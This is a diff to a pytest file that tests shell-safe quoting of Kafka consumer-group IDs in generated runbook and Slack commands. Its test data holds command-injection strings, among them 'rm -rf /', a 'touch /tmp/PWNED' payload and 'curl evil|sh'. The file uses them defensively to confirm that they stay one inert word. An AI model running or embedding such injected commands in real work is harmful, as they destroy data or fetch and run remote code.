@@ -204,15 +204,33 @@ def test_plain_names_still_read_as_written_in_commands():
     assert "--group 'x; curl evil|sh'`" in "\n".join(evil["next_steps"])
 
 
-@pytest.mark.parametrize("group_id", ["`;touch /tmp/PWNED;`", "a`b'c", "x\n; rm -rf /"])
-def test_a_command_in_slack_text_stays_one_word_whatever_the_group_holds(group_id):
-    """Backticks and line breaks are made code-safe before quoting: the Slack finalizer's
-    backtick -> quote rewrite must not reopen the shell quoting."""
-    import shlex
+HOSTILE_GROUPS = ["`;touch /tmp/PWNED;`", "a`b'c", "x\n; rm -rf /", "two  spaces", " lead and trail ", "tab\there",
+                  "\x1b[31mred", "ünï`cødé\u2028", "back\\slash $HOME \\x41", "it's", "$'x'", ""]
+
+
+def _shell_word(rest: str) -> str:
+    """What bash makes of the first word of ``rest`` (the text after --group)."""
+    import subprocess
+
+    out = subprocess.run(["bash", "-c", f'set -- {rest}\nprintf %s "$1"'], capture_output=True, check=True,
+                         env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"})
+    return out.stdout.decode("utf-8")
+
+
+@pytest.mark.parametrize("group_id", HOSTILE_GROUPS)
+def test_a_pasted_command_names_the_exact_group_whatever_it_holds(group_id):
+    """The runbook's command (plans.json, the report) and the command inside Slack's text,
+    run through bash: the --group word is the group id, byte for byte, never a rewritten one."""
+    import html
 
     plan = plan_for_finding(finding("slow_consumer", group_id=group_id), RUNBOOKS_DIR)
+    commands = [s["command"] for s in plan["diagnostic_steps"] if "--group" in s["command"]]
+    assert commands
+    for command in commands:
+        assert "\n" not in command and "\r" not in command and "\x1b" not in command  # one line to paste
+        assert _shell_word(command.split("--group ", 1)[1]) == group_id
     (step,) = [s for s in plan["next_steps"] if "kafka-consumer-groups.sh" in s]
-    command = step[step.index("`") + 1:step.rindex("`")]
-    words = shlex.split(command)
-    assert words[words.index("--group") + 1] == " ".join(group_id.replace("`", "'").split())
-    assert "touch" not in words and "rm" not in words
+    span = step[step.index("`") + 1:step.rindex("`")]
+    assert "`" not in span and "\n" not in span  # the code span stays one span on one line
+    shown = html.unescape(span)  # what Slack shows, and a person copies: &amp; -> &
+    assert _shell_word(shown.split("--group ", 1)[1]) == group_id
